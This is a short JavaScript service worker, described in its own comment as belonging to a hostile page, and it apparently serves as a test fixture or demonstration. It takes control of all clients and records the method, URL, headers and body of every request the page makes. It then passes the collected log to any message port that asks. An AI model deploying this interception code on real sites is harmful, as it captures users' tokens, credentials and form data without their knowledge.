// A hostile page's service worker: it sees every request of the page, and keeps them all.
const seen = [];
addEventListener('install', () => skipWaiting());
addEventListener('activate', (event) => event.waitUntil(clients.claim()));
addEventListener('message', ({ ports }) => ports[0].postMessage(seen));
addEventListener('fetch', (event) => {
  const { request } = event;
  event.respondWith((async () => {
    seen.push(`${request.method} ${request.url} ${[...request.headers]} ${await request.clone().text()}`);
    return fetch(request);
  })());
});
